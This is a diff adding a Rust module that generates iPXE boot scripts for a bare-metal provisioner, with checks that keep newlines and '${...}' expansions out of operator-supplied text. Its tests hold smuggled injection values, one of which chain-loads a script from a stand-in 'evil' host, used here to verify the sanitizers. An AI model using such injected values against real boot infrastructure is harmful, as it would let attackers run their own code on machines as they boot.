@@ -1,0 +1,306 @@
+//! iPXE scripts, one small function per answer. Text that operators supply (profile command
+//! lines, extra kernel arguments) or that comes from the store is checked or cleaned first:
+//! a newline would start a new script command, and `${...}` would be expanded by iPXE.
+
+use super::{Advertised, KernelOptions};
+
+/// How often iPXE tries to fetch the kernel and the initramfs before giving up.
+const FETCH_TRIES: usize = 5;
+/// Seconds between tries.
+const RETRY_DELAY_SECS: u32 = 5;
+/// The bootkit assumes it when `syslog_port=` is absent.
+const SYSLOG_DEFAULT_PORT: u16 = 514;
+
+/// iPXE's `${platform}`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Platform {
+    Pcbios,
+    Efi,
+    /// Missing or unknown: treated as EFI (leaving iPXE works on both).
+    Other,
+}
+
+impl Platform {
+    pub fn parse(text: Option<&str>) -> Self {
+        match text {
+            Some("pcbios") => Platform::Pcbios,
+            Some("efi") => Platform::Efi,
+            _ => Platform::Other,
+        }
+    }
+}
+
+/// Text that cannot go into an iPXE script as it is.
+#[derive(Debug, thiserror::Error)]
+#[error("{what} {value:?} cannot go into an iPXE script: {why}; fix it and boot the node again")]
+pub struct UnsafeValue {
+    what: String,
+    value: String,
+    why: &'static str,
+}
+
+fn checked<'a>(what: &str, value: &'a str) -> Result<&'a str, UnsafeValue> {
+    let why = if value.chars().any(char::is_control) {
+        Some("it holds a control character (a newline would start a new script command)")
+    } else if value.contains("${") {
+        Some("iPXE would expand its ${...} as a setting")
+    } else {
+        None
+    };
+    match why {
+        None => Ok(value),
+        Some(why) => Err(UnsafeValue {
+            what: what.to_string(),
+            value: value.to_string(),
+            why,
+        }),
+    }
+}
+
+/// The script DHCP hands iPXE: it asks for this node's own script, with the identity only
+/// iPXE knows. `netX` is the interface iPXE booted from (`net0` is merely the first one);
+/// `:uristring` URI-encodes the serial, which may hold spaces or `&`. A chained script that
+/// `exit`s returns here, so this one exits too: that is how a provisioned EFI node gets
+/// back to its firmware and on to its disk.
+pub fn auto(base: &str) -> String {
+    format!(
+        "#!ipxe\n\
+         chain --autofree {base}/ipxe/boot.ipxe?mac=${{netX/mac}}&uuid=${{uuid}}&serial=${{smbios/serial:uristring}}&platform=${{platform}}&arch=${{buildarch}} || goto failed\n\
+         exit\n\
+         :failed\n\
+         echo provisioner: fetching this node's boot script from {base} failed; retrying in {RETRY_DELAY_SECS} s\n\
+         sleep {RETRY_DELAY_SECS}\n\
+         reboot\n"
+    )
+}
+
+/// What the provisioner puts on a node's kernel command line, then the profile's and the
+/// operator's extra parameters.
+pub struct Cmdline<'a> {
+    pub advertised: &'a Advertised,
+    pub kernel: &'a KernelOptions,
+    /// The node's boot MAC: its worker id.
+    pub mac: &'a str,
+    pub profile_name: &'a str,
+    pub profile_cmdline: &'a str,
+}
+
+impl Cmdline<'_> {
+    pub fn render(&self) -> Result<String, UnsafeValue> {
+        let mut words = vec![
+            "initrd=initramfs".to_string(),
+            format!("grpc_authority={}", self.advertised.grpc_authority()),
+            format!("worker_id={}", self.mac),
+            format!("hw_addr={}", self.mac),
+        ];
+        if let Some(port) = self.advertised.syslog_port {
+            words.push(format!("syslog_host={}", self.advertised.ip));
+            if port != SYSLOG_DEFAULT_PORT {
+                words.push(format!("syslog_port={port}"));
+            }
+        }
+        words.push(format!("tinkerbell_tls={}", self.kernel.tinkerbell_tls));
+        if let Some(vlan) = self.kernel.vlan_id {
+            words.push(format!("vlan_id={vlan}"));
+        }
+        for console in &self.kernel.consoles {
+            words.push(format!("console={}", checked("--console", console)?));
+        }
+        let profile_what = format!("the command line of profile {}", self.profile_name);
+        for extra in [
+            checked(&profile_what, self.profile_cmdline)?,
+            checked("--extra-kernel-args", &self.kernel.extra_args)?,
+        ] {
+            words.extend(extra.split_whitespace().map(str::to_string));
+        }
+        Ok(words.join(" "))
+    }
+}
+
+/// Boots the profile's bootkit, each download tried [`FETCH_TRIES`] times.
+pub fn install(base: &str, profile_name: &str, cmdline: &str) -> Result<String, UnsafeValue> {
+    let files = format!("{base}/artifacts/profiles/{}", url_safe(profile_name)?);
+    let mut script =
+        format!("#!ipxe\necho provisioner: booting the bootkit of profile {profile_name}\n");
+    for _ in 0..FETCH_TRIES {
+        script.push_str(&format!(
+            "kernel --name kernel {files}/kernel {cmdline} && goto initrd || sleep {RETRY_DELAY_SECS}\n"
+        ));
+    }
+    script.push_str("goto failed\n:initrd\n");
+    for _ in 0..FETCH_TRIES {
+        script.push_str(&format!(
+            "initrd --name initramfs {files}/initramfs && goto boot || sleep {RETRY_DELAY_SECS}\n"
+        ));
+    }
+    script.push_str(&format!(
+        "goto failed\n\
+         :boot\n\
+         boot ||\n\
+         :failed\n\
+         echo provisioner: fetching the bootkit from {files} failed {FETCH_TRIES} times; rebooting in 30 s\n\
+         sleep 30\n\
+         reboot\n"
+    ));
+    Ok(script)
+}
+
+/// A profile name as one URL path segment, without percent-encoding it.
+fn url_safe(name: &str) -> Result<&str, UnsafeValue> {
+    let safe = !name.is_empty()
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'));
+    if safe {
+        Ok(name)
+    } else {
+        Err(UnsafeValue {
+            what: "the profile name".to_string(),
+            value: name.to_string(),
+            why: "only letters, digits, '.', '_' and '-' fit in its artifact URLs",
+        })
+    }
+}
+
+/// A provisioned node: boot its disk. A BIOS boots drive 0x80; EFI firmware, once iPXE exits,
+/// goes on to its next boot option, the disk.
+pub fn local_disk(platform: Platform) -> String {
+    let mut script =
+        "#!ipxe\necho provisioner: this node is provisioned; booting its local disk\n".to_string();
+    if platform == Platform::Pcbios {
+        script.push_str("sanboot --no-describe --drive 0x80 ||\n");
+    }
+    script.push_str("exit\n");
+    script
+}
+
+/// Admission refused: say why on the console, then leave iPXE.
+pub fn refused(reason: &str) -> String {
+    let printable: String = reason
+        .chars()
+        .map(|c| if c.is_control() || c == '$' { ' ' } else { c })
+        .collect();
+    format!("#!ipxe\necho provisioner: not booting this node: {printable}\nsleep 30\nexit\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn advertised() -> Advertised {
+        Advertised {
+            ip: "10.0.0.1".parse().unwrap(),
+            http_port: Some(7080),
+            https_port: None,
+            grpc_port: 42113,
+            syslog_port: Some(514),
+        }
+    }
+
+    fn cmdline<'a>(
+        advertised: &'a Advertised,
+        kernel: &'a KernelOptions,
+        profile_cmdline: &'a str,
+    ) -> Cmdline<'a> {
+        Cmdline {
+            advertised,
+            kernel,
+            mac: "52:54:00:12:34:56",
+            profile_name: "edge",
+            profile_cmdline,
+        }
+    }
+
+    #[test]
+    fn the_command_line_carries_the_provisioners_parameters_then_the_profiles() {
+        let advertised = advertised();
+        let kernel = KernelOptions {
+            vlan_id: Some(42),
+            extra_args: "debug".into(),
+            ..KernelOptions::default()
+        };
+        let line = cmdline(&advertised, &kernel, " quiet  loglevel=3")
+            .render()
+            .unwrap();
+        assert_eq!(
+            line,
+            "initrd=initramfs grpc_authority=10.0.0.1:42113 worker_id=52:54:00:12:34:56 \
+             hw_addr=52:54:00:12:34:56 syslog_host=10.0.0.1 tinkerbell_tls=false vlan_id=42 \
+             console=tty0 console=ttyS0,115200 quiet loglevel=3 debug"
+        );
+    }
+
+    #[test]
+    fn a_syslog_port_other_than_514_is_passed_and_no_syslog_means_no_host() {
+        let mut advertised = advertised();
+        let kernel = KernelOptions::default();
+        advertised.syslog_port = Some(5514);
+        let line = cmdline(&advertised, &kernel, "").render().unwrap();
+        assert!(
+            line.contains("syslog_host=10.0.0.1 syslog_port=5514"),
+            "{line}"
+        );
+        advertised.syslog_port = None;
+        let line = cmdline(&advertised, &kernel, "").render().unwrap();
+        assert!(!line.contains("syslog"), "{line}");
+    }
+
+    #[test]
+    fn newlines_and_settings_in_operator_text_are_refused_naming_the_source() {
+        let advertised = advertised();
+        let kernel = KernelOptions::default();
+        let error = cmdline(&advertised, &kernel, "quiet\nshell")
+            .render()
+            .unwrap_err();
+        assert!(error.to_string().contains("profile edge"), "{error}");
+        let kernel = KernelOptions {
+            extra_args: "x=${net0/ip}".into(),
+            ..KernelOptions::default()
+        };
+        let error = cmdline(&advertised, &kernel, "").render().unwrap_err();
+        assert!(error.to_string().contains("--extra-kernel-args"), "{error}");
+    }
+
+    #[test]
+    fn the_install_script_retries_each_download_a_bounded_number_of_times() {
+        let script = install("http://10.0.0.1:7080", "edge", "initrd=initramfs quiet").unwrap();
+        assert!(script.starts_with("#!ipxe\n"));
+        let kernel_tries = script
+            .lines()
+            .filter(|line| {
+                line.starts_with(
+                    "kernel --name kernel http://10.0.0.1:7080/artifacts/profiles/edge/kernel initrd=initramfs quiet",
+                )
+            })
+            .count();
+        let initrd_tries = script
+            .lines()
+            .filter(|line| line.starts_with("initrd --name initramfs "))
+            .count();
+        assert_eq!((kernel_tries, initrd_tries), (FETCH_TRIES, FETCH_TRIES));
+        assert!(script.contains(":boot\nboot ||\n:failed\n"), "{script}");
+    }
+
+    #[test]
+    fn auto_leaves_ipxe_when_the_node_script_exits_and_retries_only_on_failure() {
+        let script = auto("http://10.0.0.1:7080");
+        let lines: Vec<&str> = script.lines().collect();
+        assert!(lines[1].starts_with("chain --autofree ") && lines[1].ends_with("|| goto failed"));
+        assert_eq!(lines[2], "exit");
+        assert_eq!(lines[3], ":failed");
+    }
+
+    #[test]
+    fn local_disk_sanboots_on_bios_and_exits_to_the_firmware_on_efi() {
+        assert!(local_disk(Platform::Pcbios).contains("sanboot --no-describe --drive 0x80"));
+        let efi = local_disk(Platform::Efi);
+        assert!(!efi.contains("sanboot") && efi.ends_with("exit\n"), "{efi}");
+    }
+
+    #[test]
+    fn a_refusal_reason_cannot_inject_script_commands() {
+        let script = refused("serial x\nchain http://evil ${x}");
+        assert_eq!(script.lines().count(), 4, "{script}");
+        assert!(!script.contains("${"), "{script}");
+    }
+}
